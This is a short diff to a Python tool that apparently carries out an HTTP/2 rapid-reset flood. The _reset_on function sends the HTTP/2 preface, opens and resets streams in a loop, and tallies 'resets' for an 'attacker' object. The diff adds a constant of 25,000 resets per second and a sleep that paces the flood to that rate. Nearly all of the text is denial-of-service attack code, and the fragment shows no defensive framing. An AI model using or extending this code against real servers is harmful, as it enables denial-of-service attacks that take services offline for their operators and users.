@@ -25,6 +25,7 @@ BOT_MATCHES = 300
 WATCHERS = 10_000
 STREAMS = 64
 HINTS = 500
+RESETS_A_SECOND = 25_000
 
 Outcomes = Counter[str]
 T = TypeVar("T")
@@ -300,6 +301,7 @@ def _reset_on(connection: socket.socket, headers: bytes, attacker: Attacker) -> 
     connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b""))
     connection.setblocking(False)
     pending = b""
+    began = time.monotonic()
     for stream in range(1, 1 << 30, 2):
         if not attacker.going_on:
             return
@@ -308,6 +310,7 @@ def _reset_on(connection: socket.socket, headers: bytes, attacker: Attacker) -> 
         attacker.outcomes["resets"] += 1
         if len(pending) < 1 << 15:
             continue
+        time.sleep(max(0.0, began + stream / 2 / RESETS_A_SECOND - time.monotonic()))
         connection.setblocking(True)
         connection.sendall(pending)
         pending = b""
